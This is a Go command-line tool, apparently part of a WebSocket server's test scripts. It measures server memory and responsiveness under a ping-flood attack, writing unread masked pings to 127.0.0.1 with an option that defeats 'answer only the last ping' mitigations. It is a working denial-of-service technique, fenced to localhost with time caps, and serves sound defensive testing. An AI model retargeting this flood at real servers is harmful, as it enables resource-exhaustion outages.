// Command pingflood is the ping-amplification attacker of issue 15, for
// measuring a server's memory under it: one raw WebSocket client on
// 127.0.0.1 that upgrades, then writes masked pings as fast as it can for
// -for and never reads a frame, so every pong the server owes it piles up on
// the server side. It then closes, and probes how long a fresh client takes
// to upgrade and get a pong. With -split every ping is followed by an empty
// pong frame, which defeats answering only the last of consecutive pings.
// It only ever dials 127.0.0.1 and exits by itself: -for is capped at 10 s
// and every step has a deadline.
//
//	go run ./scripts/measure/pingflood -port 18091 -for 1s
package main

import (
	"bufio"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"strconv"
	"strings"
	"syscall"
	"time"
)

// host is fixed: this tool attacks nothing but the local machine.
const host = "127.0.0.1"

const upgradeReq = "GET /ws HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n" +
	"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"

func main() {
	port := flag.Int("port", 18091, "server port on 127.0.0.1")
	dur := flag.Duration("for", time.Second, "flood duration (at most 10s)")
	payload := flag.Int("payload", 12, "ping payload bytes (0..125); 12 makes the issue's 18-byte ping")
	split := flag.Bool("split", false, "follow each ping with an empty pong frame, so that a server that answers\n"+
		"only the last of consecutive pings must still answer every one")
	flag.Parse()
	if *dur <= 0 || *dur > 10*time.Second || *payload < 0 || *payload > 125 || *port <= 0 || *port > 65535 {
		fmt.Fprintln(os.Stderr, "pingflood: -for must be in (0, 10s], -payload in [0, 125], -port a port")
		os.Exit(2)
	}
	addr := net.JoinHostPort(host, strconv.Itoa(*port))
	sent, pings, why, err := flood(addr, *dur, *payload, *split)
	if err != nil {
		fmt.Fprintln(os.Stderr, "pingflood:", err)
		os.Exit(1)
	}
	fmt.Printf("flood: %d pings, %d bytes in %v; ended by: %s\n", pings, sent, *dur, why)
	wait, err := probe(addr)
	if err != nil {
		fmt.Printf("probe: fresh client failed: %v\n", err)
		os.Exit(1)
	}
	fmt.Printf("probe: fresh client upgraded and got its pong in %v\n", wait.Round(time.Microsecond))
}

// flood upgrades one connection with a tiny receive buffer and writes pings
// for d without reading. It reports bytes and pings written and what ended
// the flood (the time, or the server closing the connection).
func flood(addr string, d time.Duration, payload int, split bool) (sent int64, pings int64, why string, err error) {
	dialer := net.Dialer{Timeout: 5 * time.Second, Control: func(_, _ string, rc syscall.RawConn) error {
		return rc.Control(func(fd uintptr) {
			_ = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, 4096)
		})
	}}
	c, err := dialer.Dial("tcp", addr)
	if err != nil {
		return 0, 0, "", fmt.Errorf("dial %s: %w", addr, err)
	}
	defer c.Close()
	if err := upgrade(c); err != nil {
		return 0, 0, "", err
	}
	frame := ping(payload)
	if split {
		frame = append(frame, 0x8A, 0x80, 0, 0, 0, 0) // an empty, unsolicited pong
	}
	buf := make([]byte, 0, 64<<10)
	for len(buf)+len(frame) <= cap(buf) {
		buf = append(buf, frame...)
	}
	end := time.Now().Add(d)
	_ = c.SetWriteDeadline(end)
	for time.Now().Before(end) {
		n, werr := c.Write(buf)
		sent += int64(n)
		pings += int64(n / len(frame))
		if werr != nil {
			var ne net.Error
			if errors.As(werr, &ne) && ne.Timeout() {
				return sent, pings, "time", nil
			}
			return sent, pings, "server closed the connection (" + werr.Error() + ")", nil
		}
	}
	return sent, pings, "time", nil
}

// probe measures how long a fresh client takes to upgrade and get a pong.
func probe(addr string) (time.Duration, error) {
	start := time.Now()
	c, err := net.DialTimeout("tcp", addr, 10*time.Second)
	if err != nil {
		return 0, fmt.Errorf("dial %s: %w", addr, err)
	}
	defer c.Close()
	_ = c.SetDeadline(start.Add(30 * time.Second))
	r, err := upgradeReader(c)
	if err != nil {
		return 0, err
	}
	if _, err := c.Write(ping(4)); err != nil {
		return 0, fmt.Errorf("probe ping: %w", err)
	}
	for {
		var h [2]byte
		if _, err := io.ReadFull(r, h[:]); err != nil {
			return 0, fmt.Errorf("probe read: %w", err)
		}
		if _, err := r.Discard(int(h[1] & 0x7F)); err != nil {
			return 0, fmt.Errorf("probe read: %w", err)
		}
		if h[0]&0x0F == 0xA {
			return time.Since(start), nil
		}
	}
}

func upgrade(c net.Conn) error {
	_, err := upgradeReader(c)
	return err
}

// upgradeReader sends the upgrade request and reads the 101 head.
func upgradeReader(c net.Conn) (*bufio.Reader, error) {
	_ = c.SetDeadline(time.Now().Add(10 * time.Second))
	defer c.SetDeadline(time.Time{})
	if _, err := io.WriteString(c, upgradeReq); err != nil {
		return nil, fmt.Errorf("send upgrade: %w", err)
	}
	r := bufio.NewReaderSize(c, 512)
	status, err := r.ReadString('\n')
	if err != nil || !strings.HasPrefix(status, "HTTP/1.1 101") {
		return nil, fmt.Errorf("upgrade refused: %q %v", status, err)
	}
	for {
		l, err := r.ReadString('\n')
		if err != nil {
			return nil, fmt.Errorf("read 101 head: %w", err)
		}
		if l == "\r\n" {
			return r, nil
		}
	}
}

// ping is one masked ping frame with an n-byte payload (the mask key is
// zero, which leaves the payload as is and is valid).
func ping(n int) []byte {
	b := []byte{0x89, 0x80 | byte(n), 0, 0, 0, 0}
	for i := range n {
		b = append(b, byte('a'+i%26))
	}
	return b
}
